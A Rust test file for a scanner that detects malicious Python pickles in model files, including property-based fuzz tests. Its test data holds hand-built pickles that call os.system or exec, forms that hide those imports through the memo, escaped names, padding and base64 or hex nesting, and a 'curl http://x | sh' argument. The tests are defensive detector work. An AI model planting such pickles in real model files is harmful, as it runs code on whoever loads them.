//! Small pickles, written by hand.

use std::{fs, path::Path};

use gonogo_sdk::{Error, Severity};
use proptest::prelude::*;

use super::{Budget, Walked, walk};
use crate::artifacts::{
    corpus::{scanned, worst},
    memory::Memory,
    source::{CHUNK, Member, Source},
};

fn judged(bytes: &[u8]) -> Option<Severity> {
    worst(&scanned(bytes.to_vec(), "model.pkl"))
}

#[test]
fn each_way_to_import_is_seen() {
    for (name, bytes) in [
        ("GLOBAL", &b"cos\nsystem\n(S'id'\ntR."[..]),
        ("GLOBAL of protocol 2", b"\x80\x02cposix\nsystem\nq\0X\x02\0\0\0idq\x01\x85q\x02Rq\x03."),
        ("STACK_GLOBAL", b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."),
        ("names from the memo", b"\x80\x04\x8c\x05posix\x940\x8c\x06system\x940h\0h\x01\x93\x8c\x02id\x85R."),
        ("INST", b"(S'id'\nios\nsystem\n."),
        ("OBJ", b"(cos\nsystem\nS'id'\no."),
        ("escaped names", b"\x80\x04V\\u006fs\nVsystem\n\x93\x8c\x02id\x85R."),
        ("dotted name", b"\x80\x04\x8c\x06shutil\x8c\x09os.system\x93\x8c\x02id\x85R."),
        ("getattr", b"cbuiltins\ngetattr\n(ccollections\nOrderedDict\nS'__init__'\ntR(S'__globals__'\ntR."),
        ("computed name", b"\x80\x04\x8c\x02os(ccollections\nOrderedDict\nS'x'\noN\x93."),
        ("memo never put", b"\x80\x04h\x05h\x06\x93."),
        ("no end", b"cos\nsystem\n(S'id'\ntR"),
        ("garbage behind", b"cos\nsystem\n(S'id'\ntR.garbage and more of it"),
        ("garbage in the middle", b"\x80\x02cos\nsystem\n(S'id'\ntR\xff\xff\xff\xff"),
        ("second pickle", b"\x80\x02K\x01.\x80\x02cos\nsystem\n(S'id'\ntR."),
        ("garbage before", b"garbage\0\xff\x80\x02cos\nsystem\n(S'id'\ntR."),
        ("state of a module", b"\x80\x02ctorch\nTensor\n}X\x01\0\0\0aK\x01sb."),
    ] {
        assert_eq!(judged(bytes), Some(Severity::NoGo), "{name}: {:?}", scanned(bytes.to_vec(), "model.pkl"));
    }
}

#[test]
fn what_attacks_import_is_seen_in_each_form() {
    let list = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/artifacts/attacked.txt");
    let list = fs::read_to_string(list).unwrap();
    let mut met = 0;
    for line in list.lines().filter(|line| !line.starts_with('#')) {
        let (module, name) = line.split_once(' ').unwrap();
        let text = |text: &str| [&[0x8c, text.len() as u8], text.as_bytes()].concat();
        let forms = [
            format!("c{module}\n{name}\n(S'id'\ntR.").into_bytes(),
            format!("(S'id'\ni{module}\n{name}\n.").into_bytes(),
            format!("(c{module}\n{name}\nS'id'\no.").into_bytes(),
            [b"\x80\x04".as_slice(), &text(module), &text(name), b"\x93\x8c\x02id\x85R."].concat(),
            // It does not come to its end, but to the call.
            [b"\x80\x04".as_slice(), &text(module), &text(name), b"\x93\x8c\x02id\x85R\xff"].concat(),
        ];
        for bytes in forms {
            assert_eq!(judged(&bytes), Some(Severity::NoGo), "{line}: {}", bytes.escape_ascii());
        }
        met += 1;
    }
    assert!(met > 80, "{met}");
}

#[test]
fn a_break_hides_no_import() {
    // A length that is too large: the loader fails before the call, and its author meant something else.
    assert_eq!(judged(b"cbuiltins\nexec\n(X>\nf = open('x', 'a')\ntRX."), Some(Severity::NoGo));
    // Columns of a table.
    assert_eq!(judged(b"cos\nsin\ntan\n"), None);
    assert_eq!(judged(b"cos\n0.1\n0.2\n"), None);
    assert_eq!(judged(b"code\n(1, 2)\n"), None);
}

#[test]
fn nested_pickles_are_seen() {
    for (name, bytes) in [
        ("as bytes", &b"\x80\x03C\x16cos\nsystem\n(S'id'\ntR.\0."[..]),
        ("as base64", b"\x80\x02X\x20\x00\x00\x00Y29zCnN5c3RlbQooUydpZCcKdFIu\x20\x20\x20\x20."),
        ("as hex", b"\x80\x02X\x2a\x00\x00\x00636f730a73797374656d0a2853276964270a7452\x2e."),
    ] {
        let bytes = if name == "as base64" {
            [b"\x80\x02X\x1c\0\0\0".as_slice(), b"Y29zCnN5c3RlbQooUydpZCcKdFIu", b"."].concat()
        } else if name == "as hex" {
            [b"\x80\x02X\x2a\0\0\0".as_slice(), b"636f730a73797374656d0a2853276964270a74522e", b"."].concat()
        } else {
            bytes.to_vec()
        };
        assert_eq!(judged(&bytes), Some(Severity::NoGo), "{name}: {:?}", scanned(bytes.clone(), "model.pkl"));
    }
}

#[test]
fn data_is_no_finding() {
    for (name, bytes) in [
        ("numbers", &b"\x80\x04]\x94(K\x01K\x02K\x03e."[..]),
        ("ordered dict", b"\x80\x02ccollections\nOrderedDict\nq\0)Rq\x01X\x01\0\0\0aK\x01s."),
        ("protocol 0", b"(dp0\nVa\np1\nI1\ns."),
        ("class of torch", b"\x80\x02ctorch.nn.modules.linear\nLinear\n)\x81}X\x01\0\0\0aK\x01sb."),
        ("method", b"cbuiltins\ngetattr\n(ccollections\nOrderedDict\nS'fromkeys'\ntR."),
        ("text", b"class Model:\n    pass\n"),
        ("prose", b"(This is a text.)\nIt is none.\n"),
    ] {
        assert_eq!(judged(bytes), None, "{name}: {:?}", scanned(bytes.to_vec(), "model.txt"));
    }
}

#[test]
fn what_breaks_is_unknown() {
    assert_eq!(judged(b"\x80\x04\x8c\x05posi"), Some(Severity::Unknown));
    assert_eq!(judged(b"\x80\x04]\x94(K\x01K\x02K\x03"), Some(Severity::Unknown));
}

#[test]
fn arrays_of_joblib_are_passed() {
    let mut bytes = b"\x80\x03cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(X\x05\0\0\0shapeK\x02\x85X\x05\0\0\0dtypecnumpy\ndtype\nX\x02\0\0\0f8K\0K\x01\x87RX\x1b\0\0\0numpy_array_alignment_bytesK\x10ub\x03\0\0\0".to_vec();
    bytes.extend([0xff; 16]);
    bytes.extend(b"cos\nsystem\n(S'id'\ntR.");
    assert_eq!(judged(&bytes), Some(Severity::NoGo), "{:?}", scanned(bytes.clone(), "model.pkl"));
    let end = bytes.len() - 21;
    bytes.truncate(end);
    bytes.push(b'.');
    assert_eq!(judged(&bytes), None, "{:?}", scanned(bytes.clone(), "model.pkl"));
}

#[test]
fn names_far_back_are_found() {
    // Behind the window by the time they are used, and among more numbers than a chunk of the memo has.
    let mut bytes = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94](".to_vec();
    for number in 0..40_000_u16 {
        bytes.extend([b'K', 1, b'M']);
        bytes.extend(number.to_le_bytes());
        bytes.extend(b"\x86\x94");
    }
    bytes.extend(b"eh\0h\x01\x93\x8c\x02id\x85R.");
    assert_eq!(judged(&bytes), Some(Severity::NoGo));
    assert!(scanned(bytes, "model.pkl").opcodes > 160_000);
}

#[test]
fn code_in_arguments_is_seen_each_time() {
    let call = |text: &str| {
        let length = [text.len() as u8];
        [b"h\0\x8c".as_slice(), &length, text.as_bytes(), b"\x85R0"].concat()
    };
    let start = b"\x80\x04\x8c\x03own\x8c\x05Thing\x93\x940".as_slice();
    let harmless = [start, &call("a"), b"h\0)R0", &call("b"), b"N."].concat();
    assert_eq!(judged(&harmless), Some(Severity::Warn));
    let bad = [start, &call("a"), b"h\0)R0", &call("b"), &call("curl http://x | sh"), b"N."].concat();
    assert_eq!(judged(&bad), Some(Severity::NoGo));
}

/// Gives a byte or few at a time, so that no opcode lies whole in the window.
struct Drops(Memory, u32);

impl Source for Drops {
    fn format(&self) -> Result<String, Error> {
        self.0.format()
    }

    fn size(&self) -> Result<u64, Error> {
        self.0.size()
    }

    fn read(&self, offset: u64, length: u32) -> Result<Vec<u8>, Error> {
        // Only what the window asks for: what asks for so many bytes gets them.
        self.0.read(offset, if length == CHUNK { self.1 } else { length })
    }

    fn members(&self) -> Result<Vec<Member>, Error> {
        self.0.members()
    }

    fn member(&self, index: u32) -> Result<Box<dyn Source>, Error> {
        self.0.member(index)
    }
}

fn walked(source: &dyn Source, strict: bool) -> String {
    let Walked { end, imports, events, opcodes, constants, malformed } =
        walk(source, 0, strict, Budget::default(), &|_| false);
    format!("{end:?} {imports:?} {events:?} {opcodes} {constants:?} {malformed}")
}

/// Opcodes that pickles are made of, with operands that now and then are right.
fn opcodes() -> impl Strategy<Value = Vec<u8>> {
    let one = prop_oneof![
        6 => prop::sample::select(b"()]}N\x85\x86\x87\x88\x89\x8f\x940taesu\x90\x91dlR\x81bo2.".to_vec()).prop_map(|code| vec![code]),
        2 => any::<u8>().prop_map(|number| vec![b'K', number]),
        1 => any::<u16>().prop_map(|number| [b"M".as_slice(), &number.to_le_bytes()].concat()),
        1 => any::<i32>().prop_map(|number| [b"J".as_slice(), &number.to_le_bytes()].concat()),
        1 => any::<f64>().prop_map(|number| [b"G".as_slice(), &number.to_be_bytes()].concat()),
        3 => (0_u8..6).prop_map(|number| vec![b'h', number]),
        1 => (0_u8..6).prop_map(|number| vec![b'q', number]),
        1 => (0_u32..6).prop_map(|number| [b"j".as_slice(), &number.to_le_bytes()].concat()),
        3 => prop::sample::select(vec!["os", "system", "own", "Thing", "id; curl x", "collections", "OrderedDict"])
            .prop_map(|text| [&[0x8c, text.len() as u8], text.as_bytes()].concat()),
        1 => prop::collection::vec(any::<u8>(), 0..20)
            .prop_map(|bytes| [&[b'C', bytes.len() as u8], bytes.as_slice()].concat()),
        1 => Just(b"\x93".to_vec()),
        1 => Just(b"cown\nThing\n".to_vec()),
    ];
    prop::collection::vec(one, 0..60).prop_map(|codes| codes.concat())
}

proptest! {
    #[test]
    fn how_much_is_read_at_once_does_not_matter(bytes in opcodes(), at_once in 1_u32..12, strict: bool) {
        let whole = walked(&Memory(bytes.clone()), strict);
        assert_eq!(walked(&Drops(Memory(bytes), at_once), strict), whole);
    }

    #[test]
    fn random_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..512)) {
        scanned(bytes.clone(), "model.pkl");
        scanned([b"\x80\x04".as_slice(), &bytes].concat(), "model.pkl");
    }

    #[test]
    fn mutated_pickles_never_panic(at in 0_usize..64, byte in any::<u8>(), cut in 0_usize..64) {
        let mut bytes = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94}(Va\nI1\nub.".to_vec();
        if let Some(place) = bytes.get_mut(at) {
            *place = byte;
        }
        bytes.truncate(bytes.len().saturating_sub(cut));
        scanned(bytes, "model.pkl");
    }
}
